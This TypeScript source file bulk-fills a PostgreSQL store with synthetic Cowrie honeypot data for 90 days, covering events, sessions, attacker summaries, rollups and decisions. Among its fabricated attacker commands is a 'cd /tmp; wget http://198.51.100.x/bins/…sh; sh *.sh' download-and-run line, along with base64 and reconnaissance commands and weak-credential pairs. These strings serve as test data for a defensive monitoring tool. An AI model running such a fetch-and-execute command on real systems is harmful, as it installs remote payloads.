import type pg from 'pg';
import { addPartition, isMadeByAnother, monthOf } from '../engine/src/store/partitions.ts';

const days = 90;
const eventsPerSession = 20;
const chunkSessions = 50_000;

/**
 * `events` made events of the last 90 days in the store's own tables, with sessions, attackers, decisions and every
 * rollup as the store would keep them. Made by PostgreSQL itself: this fills a database, it measures no ingest.
 */
export async function fillEvents(client: pg.Client, events: number, now: Date): Promise<void> {
  const sessions = Math.ceil(events / eventsPerSession);
  const startMs = now.getTime() - days * 86_400_000;
  // Rows come from nowhere, so no trigger may take them for something that happened.
  await client.query("set session_replication_role = replica; set synchronous_commit = off; set work_mem = '256MB'");
  await makePartitions(client, startMs, now.getTime());
  // Built at once they take a fraction of what they take row by row.
  const { rows: indexes } = await client.query<{ name: string; definition: string }>(
    `select indexrelid::regclass::text as name, pg_get_indexdef(indexrelid) as definition
       from pg_index where indrelid = 'events'::regclass and not indisprimary`,
  );
  for (const { name } of indexes) await client.query(`drop index ${name}`);
  for (let first = 0; first < sessions; first += chunkSessions) {
    const last = Math.min(sessions, first + chunkSessions) - 1;
    await client.query(eventsText, [first, last, new Date(startMs), (days * 86_400) / sessions]);
  }
  await client.query(sessionsText, [sessions - 1, new Date(startMs), (days * 86_400) / sessions]);
  for (const text of summaryTexts) await client.query(text);
  // A partitioned index is told as one of the parent alone, which no partition would have.
  for (const { definition } of indexes) await client.query(definition.replace(' ON ONLY ', ' ON '));
  await client.query('reset session_replication_role');
  await client.query('vacuum analyze');
}

/** The engine that runs beside us makes those of these days. */
async function makePartitions(client: pg.Client, fromMs: number, toMs: number): Promise<void> {
  for (let month = startOfMonth(fromMs, 0); month <= toMs; month = startOfMonth(month, 1))
    await addPartition(client, monthOf(month)).catch((error: unknown) => {
      if (!isMadeByAnother(error)) throw error;
    });
}

function startOfMonth(ms: number, monthsOn: number): number {
  const at = new Date(ms);
  return Date.UTC(at.getUTCFullYear(), at.getUTCMonth() + monthsOn);
}

/** One address has a share that falls with its rank, as with real visitors: a few come all the time, most once. */
const addressOf = (session: string) =>
  `(select '203.' || (r / 62500) % 250 || '.' || (r / 250) % 250 || '.' || r % 250
      from (select floor(power(('x' || substr(md5(${session}::text), 1, 7))::bit(28)::int / 268435456.0, 3) * 60000)::int as r) rank)`;

const eventsText = `
insert into events (id, event_type, timestamp, sensor, session_id, protocol, source_ip, source_port, command, username,
                    password, severity, threat_score, anomaly_score, attack_type, confidence, techniques, why, assessment,
                    is_analyzed, is_probe, raw_event)
select overlay(overlay(lpad(to_hex((extract(epoch from at) * 1000)::bigint), 12, '0') || '7' || substr(md5(s || '.' || k), 1, 19)
         placing '8' from 17) placing '-' from 9 for 0)::uuid,
       type, at, 'sensor-' || s % 3, lpad(to_hex(s), 12, '0'), case when s % 9 = 0 then 'telnet' else 'ssh' end, ip, 40000 + s % 20000,
       command, name, word,
       severity, case severity when 'HIGH' then 0.9 when 'MEDIUM' then 0.5 else 0.1 end + (s % 9) / 100.0, (s % 100) / 100.0,
       case when severity = 'HIGH' then 'malware_download' else 'none' end, 0.9,
       case when severity = 'HIGH' then array['T1105', 'T1059.004'] when name is not null then array['T1110.001']
            when s % 50000 = 7 and k = 12 then array['T1195'] else '{}' end,
       case when severity = 'HIGH' then 'fetches a payload and runs it' else 'nothing done that matters' end, null, true, false,
       jsonb_build_object('eventid', type, 'session', lpad(to_hex(s), 12, '0'), 'src_ip', ip, 'timestamp', at, 'sensor', 'sensor-' || s % 3,
                          'message', coalesce('CMD: ' || command, 'login attempt ' || name, 'connection'), 'input', command)
  from (
    select s, k, ip, $3::timestamptz + s * $4::float8 * interval '1 second' + k * interval '1.7 seconds' as at,
           case when k = 0 then 'cowrie.session.connect' when k = 1 then 'cowrie.client.version' when k < 7 then 'cowrie.login.failed'
                when k = 7 then 'cowrie.login.success' when k = 19 then 'cowrie.session.closed' else 'cowrie.command.input' end as type,
           case when k between 8 and 18 then
             case when (s + k) % 7 = 0 then 'cd /tmp; wget http://198.51.100.' || s % 250 || '/bins/' || (s * 31 + k) % 20000 || '.sh; sh *.sh'
                  when k % 5 = 0 then 'echo ' || (s * 17 + k) % 3000 || ' | base64 -d'
                  else (array['uname -a', 'whoami', 'cat /proc/cpuinfo', 'ls -la /tmp', 'w', 'nproc', 'free -m'])[1 + (s + k) % 7] end end as command,
           case when k between 2 and 7 then (array['root', 'admin', 'user', 'oracle', 'pi', 'test', 'ubuntu'])[1 + (s + k) % 7] end as name,
           case when k between 2 and 7 then 'pass' || floor(power((s * 13 + k) % 10000 / 10000.0, 4) * 20000)::int end as word,
           case when k between 8 and 18 and (s + k) % 7 = 0 then 'HIGH' when k = 7 then 'MEDIUM' else 'LOW' end as severity
      from (select s, ${addressOf('s')} as ip from generate_series($1::int, $2::int) s) session, generate_series(0, 19) k) made`;

const sessionsText = `
insert into sessions (id, session_id, sensor, source_ip, protocol, start_time, last_event_time, end_time, event_count, command_count,
                      successful_login, is_active, severity, threat_score, techniques, client_version, hassh, state, folded_events)
select gen_random_uuid(), lpad(to_hex(s), 12, '0'), 'sensor-' || s % 3, ${addressOf('s')}, case when s % 9 = 0 then 'telnet' else 'ssh' end,
       at, at + interval '33 seconds', case when s > $1::int - 40 then null else at + interval '33 seconds' end, 20, 11, true, s > $1::int - 40,
       'HIGH', 0.9, '{T1105,T1059.004}', 'SSH-2.0-' || (array['Go', 'libssh_0.9.6', 'OpenSSH_8.9', 'PUTTY'])[1 + s % 4], md5((s % 300)::text), '{}', 20
  from (select s, $2::timestamptz + s * $3::float8 * interval '1 second' as at from generate_series(0, $1::int) s) made`;

const summaryTexts = [
  `insert into attackers (ip_address, threat_score, total_events, total_sessions, high_severity_count, successful_logins,
                          most_common_username, most_common_username_count, unique_passwords_count, country, asn, as_name, first_seen, last_seen)
   select source_ip, 0.5 + (count(*) % 50) / 100.0, count(*) * 20, count(*), count(*), count(*), 'root', count(*), count(*),
          (array['CN', 'US', 'NL', 'BR', 'RU', 'VN', 'IN', 'DE', 'FR', 'KR'])[1 + abs(hashtext(source_ip)) % 10], 1000 + abs(hashtext(source_ip)) % 3000,
          'Network ' || abs(hashtext(source_ip)) % 3000, min(start_time), max(last_event_time)
     from sessions group by source_ip`,
  `insert into rollup_hours select date_trunc('hour', timestamp, 'UTC'), sensor, event_type, severity, count(*) from events group by 1, 2, 3, 4`,
  `insert into rollup_commands select md5(command)::uuid, command, max(severity), count(*), min(timestamp), max(timestamp)
     from events where command is not null group by command`,
  `insert into rollup_credentials select md5(username || ' ' || password)::uuid, username, password, count(*),
          count(*) filter (where event_type = 'cowrie.login.success'), max(timestamp) from events where username is not null group by username, password`,
  `insert into rollup_techniques select t, count(*), min(timestamp), max(timestamp) from events, unnest(techniques) t group by t`,
  `insert into rollup_countries select (s.start_time at time zone 'UTC')::date, a.country, a.asn, max(a.as_name), sum(s.event_count)
     from sessions s join attackers a on a.ip_address = s.source_ip group by 1, 2, 3`,
  `insert into rollup_country_months select date_trunc('month', day)::date, country, asn, max(as_name), sum(events)
     from rollup_countries group by 1, 2, 3`,
  `insert into decisions (id, decided_at, decision, rule, why, sensor, session_id, source_ip, event_id, severity, threat_score, confidence,
                          policy_version, model_version, verdict, wanted, target)
   select id, last_event_time, 'monitor', 'watch', 'A payload was fetched.', sensor, session_id, source_ip, id, 'HIGH', 0.9, 0.9, '1', '1',
          case when abs(hashtext(session_id)) % 100 = 0 then 'act' else 'nothing' end, 'monitor', source_ip from sessions`,
];
